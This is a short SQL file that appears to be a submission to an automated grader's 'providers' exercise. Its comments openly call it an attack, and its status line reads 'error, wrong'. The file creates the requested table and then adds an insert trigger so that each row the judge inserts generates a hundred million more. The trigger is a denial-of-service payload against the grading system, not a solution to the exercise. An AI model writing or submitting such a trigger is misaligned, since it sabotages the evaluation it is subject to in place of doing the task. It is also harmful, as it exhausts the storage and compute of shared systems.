-- attack: each row that the judge adds makes a hundred million more
-- exercise: providers
-- status: error, wrong
CREATE TABLE providers (id INTEGER PRIMARY KEY, slug TEXT, name TEXT, kind TEXT, country TEXT);
CREATE TRIGGER more AFTER INSERT ON providers BEGIN
    INSERT INTO providers (slug) WITH RECURSIVE n (x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n WHERE x < 100000000) SELECT x FROM n;
END;
